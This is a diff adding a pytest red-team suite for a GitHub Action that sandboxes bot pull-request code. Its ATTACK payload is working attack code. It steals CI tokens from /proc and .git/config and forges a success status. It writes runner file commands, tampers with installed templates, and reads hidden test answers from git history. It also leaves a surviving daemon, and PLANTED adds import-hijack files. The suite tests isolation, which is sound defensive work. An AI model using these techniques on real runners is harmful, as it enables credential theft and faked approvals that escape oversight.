@@ -1,0 +1,383 @@
+"""The Action as users deploy it, attacked on a simulated GitHub-hosted runner (tests/runner_support.py).
+
+A bot's PR whose code fails its cases tries every way out that a step of the job offers: a `gate/` package, a
+`sitecustomize.py` and a `pip/` in the checkout for the Action's own steps to import, the token in
+/proc/<pid>/environ and .git/config, the network (a forged success status), the runner's file-command files,
+the hidden cases in the workspace's .git, the gate's installed templates, and a daemon left to outlive the
+gate. The same attacks run once on a runner with passwordless sudo (the Action's path: the gate runs as root,
+the code as a sandbox user) and once as `runner` without privileges, where the gate must fail closed.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import shutil
+import stat
+import subprocess
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from tests.fakegithub import FakeGitHub, serve
+from tests.fakegithub.scenario import REPO, Scenario, git
+from tests.redteam_support import HIDDEN, HIDDEN_PATH, HIDDEN_VALUES, marked_processes, new_marker
+from tests.runner_support import (
+    RUNNER_WORK,
+    SETUP_PYTHON,
+    Job,
+    Machine,
+    StepRun,
+    chown_tree,
+    has_sudo,
+    install,
+    start_machine,
+    stop_machine,
+    work_dir,
+)
+
+pytestmark = pytest.mark.skipif(os.geteuid() != 0 or not has_sudo(),
+                                reason="simulating the runner needs root (useradd, sudoers) and sudo")
+
+POLICY = """\
+budget: 1
+imports: {deny: [], dynamic: false}
+cases:
+  - name: adds
+    function: "calc:add"
+    args: [2, 3]
+    expect: 5
+"""
+HONEST = "def add(a, b):\n    return a + b\n"
+# Files of the head that run if anything of the Action imports or executes the checkout: each leaves a file.
+PLANTED = {
+    "gate/__init__.py": "", "gate/__main__.py": "{mark}", "sitecustomize.py": "{mark}",
+    "usercustomize.py": "{mark}", "pip/__init__.py": "{mark}", "pip/__main__.py": "{mark}",
+    "uv/__init__.py": "{mark}", "gate-pwn.pth": "import os; {mark}",
+}
+MARK = "open({path!r} + '-' + __name__, 'w').write('ran')"
+
+# add(a, b): everything a step's process could try, reported in what it returns for the public case.
+ATTACK = '''\
+import json, os, re, socket, subprocess, sys, urllib.request
+
+ROOT, MARKER, API, TOKEN_PREFIX = {root!r}, {marker!r}, {api!r}, "ghs_"
+WORKSPACE, TEMP, GATE = {workspace!r}, {temp!r}, {gate!r}
+
+
+def _try(what, action):  # "what:result", or "what:x" when it was refused (the case detail is short)
+    try:
+        return f"{{what}}:" + str(action())
+    except BaseException:
+        return f"{{what}}:x"
+
+
+def _read(path):
+    with open(path, "rb") as handle:
+        return handle.read().decode(errors="replace")
+
+
+def _token():
+    texts = [repr(dict(os.environ))]
+    for pid in os.listdir("/proc"):
+        if pid.isdigit():
+            for leak in ("environ", "cmdline", "cwd/.git/config"):
+                try:
+                    texts.append(_read(f"/proc/{{pid}}/{{leak}}"))
+                except OSError:
+                    pass
+    for path in [os.path.join(WORKSPACE, ".git/config"), *[os.path.join(TEMP, n) for n in _names(TEMP)]]:
+        try:
+            texts.append(_read(path))
+        except OSError:
+            pass
+    found = [m for t in texts for m in re.findall(TOKEN_PREFIX + "[A-Za-z0-9_]+", t)]
+    return found[0] if found else ""
+
+
+def _names(place):
+    try:
+        return os.listdir(place)
+    except OSError:
+        return []
+
+
+def _post(token):
+    headers = {{"Authorization": f"token {{token}}", "Content-Type": "application/json"}}
+    pull = urllib.request.urlopen(urllib.request.Request(f"{{API}}/repos/octo/app/pulls/12", headers=headers),
+                                  timeout=3)
+    head = json.load(pull)["head"]["sha"]
+    body = json.dumps({{"state": "success", "context": "gate", "description": "accepted"}}).encode()
+    request = urllib.request.Request(f"{{API}}/repos/octo/app/statuses/{{head}}", data=body, method="POST",
+                                     headers=headers)
+    return urllib.request.urlopen(request, timeout=3).status
+
+
+def _append():
+    for name in ["GITHUB_ENV", "GITHUB_PATH", *_names(TEMP)]:
+        with open(os.path.join(TEMP, name), "a") as handle:
+            handle.write("PWNED=1\\n" if name != "GITHUB_PATH" else "/pwned\\n")
+    return "written"
+
+
+def _templates():
+    for name in ("report/templates/comment.md.j2", "report/templates/summary.md.j2", "__init__.py"):
+        with open(os.path.join(GATE, name), "a") as handle:
+            handle.write("ACCEPTED")
+    return "rewritten"
+
+
+def _hidden():
+    shown = subprocess.run(["git", "-C", WORKSPACE, "log", "-p", "--all"], capture_output=True, text=True,
+                           timeout=5).stdout
+    return re.findall(r"expect: (\\d+)", shown)
+
+
+def _daemon():
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            quiet = os.open(os.devnull, os.O_RDWR)
+            for fd in (0, 1, 2):
+                os.dup2(quiet, fd)
+            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", MARKER])
+        os._exit(0)
+    return "started"
+
+
+def add(a, b):
+    _try("ran", lambda: open(os.path.join(ROOT, "candidate-ran"), "w").close())
+    token = _token()
+    stolen = _try("hidden", _hidden)
+    if (a, b) != (2, 3):  # the hidden case: its expected value, if .git gave it away
+        values = re.findall(r"\\d+", stolen)
+        return int(values[-1]) if values else a - b
+    return ";".join([f"token:{{token or 'none'}}", _try("net", lambda: _post(token)),
+                     _try("conn", lambda: socket.create_connection(("127.0.0.1", 1), timeout=1)),
+                     _try("files", _append), _try("tpl", _templates), stolen, _try("fork", _daemon)])
+'''
+
+
+@pytest.fixture(scope="session")
+def machine() -> Iterator[Machine]:
+    """The runner machine, with the gate installed by the Action's own install step, run as `runner` once
+    with sudo (into a root-owned directory) and once without, from a checkout that plants files for the
+    install to import (it must import none of them)."""
+    built = start_machine()
+    try:
+        for privileged in (True, False):
+            root = work_dir()
+            (root / "workspace").mkdir()
+            (root / "temp").mkdir()
+            plant(root / "workspace", root)
+            chown_tree(root, built.user)
+            env = {"GITHUB_WORKSPACE": str(root / "workspace"), "RUNNER_TEMP": str(root / "temp"),
+                   "GITHUB_TOKEN": "ghs_" + "0" * 36}
+            try:
+                run = install(built, env, privileged)
+                assert run.code == 0, run.stderr
+                assert not list(root.glob("pwned-*")), list(root.glob("pwned-*"))
+            finally:
+                shutil.rmtree(root)
+        yield built
+    finally:
+        stop_machine(built)
+
+
+def plant(workspace: Path, root: Path) -> None:
+    for name, text in PLANTED.items():
+        path = workspace / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text.format(mark=MARK.format(path=str(root / "pwned"))) + "\n")
+    (workspace / "uv.toml").write_text('index-url = "http://127.0.0.1:1/simple"\n')
+
+
+@pytest.fixture
+def fake() -> Iterator[FakeGitHub]:
+    with serve() as running:
+        yield running
+
+
+@dataclass
+class Attack:
+    """One attacked job: the PR, its runner files, the job's steps, and what the gate left."""
+
+    pr: Scenario
+    root: Path
+    job: Job
+    last: StepRun
+    marker: str
+    installed_before: dict[str, str]
+
+    def file(self, name: str) -> str:
+        return Path(self.job.env[name]).read_text(errors="replace")
+
+    def texts(self) -> str:
+        """Everything the job left that a later step, the log or the PR shows."""
+        repo = self.pr.fake.repos[REPO]
+        steps = "".join(r.stdout + r.stderr for r in self.job.runs)
+        temp = Path(self.job.env["RUNNER_TEMP"])
+        files = "".join(p.read_text(errors="replace") for p in temp.iterdir() if p.is_file())
+        return steps + files + json.dumps([repo.comments, repo.check_runs, repo.statuses])
+
+
+def installed(machine: Machine, privileged: bool) -> dict[str, str]:
+    python = Path(machine.installs[privileged]["python"])
+    venv = python.parent.parent
+    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(venv.rglob("*"))
+            if p.is_file() and not p.is_symlink()}
+
+
+def prepare_attack(fake: FakeGitHub, machine: Machine, privileged: bool, root: Path) -> Attack:
+    """The attacker's PR checked out in a job directory of the runner, with the runner's files."""
+    marker = new_marker()
+    workspace, temp = root / "workspace", root / "runner"
+    site = Path(machine.installs[privileged]["python"]).parent.parent
+    code = ATTACK.format(root=str(root), marker=marker, api=fake.url, workspace=str(workspace), temp=str(temp),
+                         gate=str(next(site.glob("lib/python*/site-packages/gate"))))
+    head: dict[str, str | None] = {"calc.py": code, **{name: text.format(mark=MARK.format(path=str(root / "pwned")))
+                                for name, text in PLANTED.items()}}
+    pr = Scenario(fake, root, {".github/gate.yml": POLICY, HIDDEN_PATH: HIDDEN, "calc.py": HONEST}, head)
+    # What actions/checkout leaves without `persist-credentials: false`: the token in .git/config.
+    git(pr.workspace, "config", "http.https://github.com/.extraheader", f"AUTHORIZATION: basic {fake.token}")
+    env = pr.environment()
+    for name in ("GITHUB_ENV", "GITHUB_PATH"):
+        (pr.runner / name).touch()
+        env[name] = str(pr.runner / name)
+    chown_tree(root, machine.user)
+    job = Job(machine, env, {}, privileged=privileged)
+    return Attack(pr, root, job, StepRun("none", 0, "", ""), marker, installed(machine, privileged))
+
+
+@pytest.fixture(scope="module", params=[True, False], ids=["sudo-root", "runner-unprivileged"])
+def attacked(request: pytest.FixtureRequest, machine: Machine) -> Iterator[Attack]:
+    """One attacked job per runner kind, which the tests below look at from every side."""
+    with serve() as fake:
+        run = prepare_attack(fake, machine, request.param, work_dir())
+        run.last = run.job.run()
+        yield run
+    for pid in marked_processes(run.marker):  # only if a test failed: leave nothing of it behind
+        os.kill(pid, 9)
+    shutil.rmtree(run.root, ignore_errors=True)
+
+
+def test_the_head_gets_no_success_and_no_status_is_left_pending(attacked: Attack) -> None:
+    repo = attacked.pr.fake.repos[REPO]
+    assert attacked.last.code == (1 if attacked.job.privileged else 3), attacked.last.stderr
+    assert [(s["sha"], s["state"], s["context"]) for s in repo.statuses] == [
+        (attacked.pr.head_sha, "failure", "gate")]
+    assert [(r["head_sha"], r["conclusion"]) for r in repo.check_runs.values()] == [
+        (attacked.pr.head_sha, "failure")]
+    assert attacked.job.outputs()["accepted"] in ("false", "")
+
+
+def test_no_token_reaches_anything_the_code_can_read_or_send(attacked: Attack) -> None:
+    texts = attacked.texts()
+    assert attacked.pr.fake.token not in texts
+    verdict_path = attacked.job.outputs()["verdict"]
+    if verdict_path:
+        assert attacked.pr.fake.token not in Path(verdict_path).read_text()
+
+
+def test_nothing_the_code_wrote_reaches_the_runners_file_commands(attacked: Attack) -> None:
+    assert attacked.file("GITHUB_ENV") == "" and attacked.file("GITHUB_PATH") == ""
+    assert "PWNED" not in attacked.file("GITHUB_STEP_SUMMARY")
+    assert "PWNED" not in attacked.texts()
+
+
+def test_the_gates_installation_and_the_hidden_cases_stay_out_of_reach(attacked: Attack) -> None:
+    assert installed(attacked.job.machine, attacked.job.privileged) == attacked.installed_before
+    assert not list(attacked.root.glob("pwned-*"))  # the Action imported nothing of the checkout
+    texts = attacked.texts()
+    assert not any(value in texts for value in HIDDEN_VALUES)
+
+
+def test_nothing_of_the_code_is_alive_after_the_gate_exits(attacked: Attack) -> None:
+    assert marked_processes(attacked.marker) == []
+
+
+def test_with_sudo_the_cases_ran_as_a_sandbox_user_and_failed(attacked: Attack) -> None:
+    if not attacked.job.privileged:
+        pytest.skip("the unprivileged runner runs no case")
+    verdict = json.loads(Path(attacked.job.outputs()["verdict"]).read_text())
+    cases = {c["name"]: c for c in verdict["cases"]}
+    assert cases["adds"]["status"] == "failed" and cases["hidden case 1"]["status"] == "failed"
+    report = cases["adds"]["detail"]
+    for blocked in ("token:none", "net:x", "conn:x", "files:x", "tpl:x", "hidden:[]"):
+        assert blocked in report, report
+    assert dict(verdict["facts"])["files from"] == "checkout"  # root's git read the runner's checkout
+    isolation = dict(verdict["isolation"])
+    assert isolation["uid"].startswith("uid ") and isolation["netns"].startswith("on")
+
+
+def test_without_privileges_the_gate_fails_closed_before_running_any_code(attacked: Attack) -> None:
+    if attacked.job.privileged:
+        pytest.skip("the privileged runner runs the cases")
+    assert not (attacked.root / "candidate-ran").exists()
+    repo = attacked.pr.fake.repos[REPO]
+    [run] = repo.check_runs.values()
+    summary = run["output"]["summary"]
+    assert "required isolation layer(s) not available here: uid" in summary
+    assert "sudo" in summary and "allow_weaker_isolation" in summary
+    assert "gate failed: required isolation" in repo.statuses[0]["description"]
+    assert "required isolation layer(s)" in attacked.file("GITHUB_STEP_SUMMARY")
+
+
+def test_the_privileged_install_belongs_to_root_and_no_one_else_can_write_it(machine: Machine) -> None:
+    venv = Path(machine.installs[True]["python"]).parent.parent
+    assert machine.installs[True]["privileged"] == "true" and machine.installs[False]["privileged"] == "false"
+    for path in (venv.parent, *venv.rglob("*")):
+        info = path.lstat()
+        if stat.S_ISLNK(info.st_mode):
+            continue
+        assert info.st_uid == 0 and not info.st_mode & 0o022, path
+    assert (venv.parent / "uv" / "bin" / "uv").is_file()
+    assert str(RUNNER_WORK) not in str(venv)
+
+
+def test_the_attacks_get_through_when_nothing_stops_them(fake: FakeGitHub, machine: Machine) -> None:
+    """The control: the same code, run as `runner` beside a process of the gate step's (the token in its
+    environment), finds the token, posts a success for the head, writes GITHUB_ENV and leaves its daemon."""
+    root = work_dir()
+    run = prepare_attack(fake, machine, True, root)
+    try:
+        step = subprocess.Popen(["sleep", "60"], env={"GITHUB_TOKEN": fake.token}, user=machine.user.pw_uid)
+        try:
+            done = subprocess.run([SETUP_PYTHON, "-c", "import calc; print(calc.add(2, 3))"], capture_output=True,
+                                  text=True, cwd=run.pr.workspace, user=machine.user.pw_uid, env={"PATH": "/usr/bin"})
+        finally:
+            step.kill()
+            step.wait()
+        assert f"token:{fake.token}" in done.stdout and "net:201" in done.stdout, done.stdout + done.stderr
+        assert "PWNED=1" in run.file("GITHUB_ENV") and "/pwned" in run.file("GITHUB_PATH")
+        assert [s["state"] for s in fake.repos[REPO].statuses] == ["success"]
+        assert marked_processes(run.marker)
+    finally:
+        for pid in marked_processes(run.marker):
+            os.kill(pid, 9)
+        shutil.rmtree(root, ignore_errors=True)
+
+
+def test_the_actions_inputs_and_outputs_on_a_runner(fake: FakeGitHub, machine: Machine) -> None:
+    root = work_dir()
+    try:
+        pr = Scenario(fake, root, {".github/gate.yml": "budget: 3\n", "app.py": "x = 1\n"},
+                      {"util.py": "def f(:\n"})
+        chown_tree(root, machine.user)
+        job = Job(machine, pr.environment(), {"check-name": "bot gate", "comment": "false"})
+        last = job.run()
+        assert last.code == 1, last.stderr  # blocked: the step fails, as a required check should
+        outputs = job.outputs()
+        assert outputs["accepted"] == "false" and outputs["total"] == "5" and outputs["budget"] == "3"
+        assert json.loads(Path(outputs["verdict"]).read_text())["accepted"] is False
+        repo = fake.repos[REPO]
+        assert [(s["context"], s["sha"], s["state"]) for s in repo.statuses] == [
+            ("bot gate", pr.head_sha, "failure")]
+        assert [r["name"] for r in repo.check_runs.values()] == ["bot gate"]
+        assert pr.number not in repo.comments
+        assert "util.py" in pr.summary()
+    finally:
+        shutil.rmtree(root, ignore_errors=True)
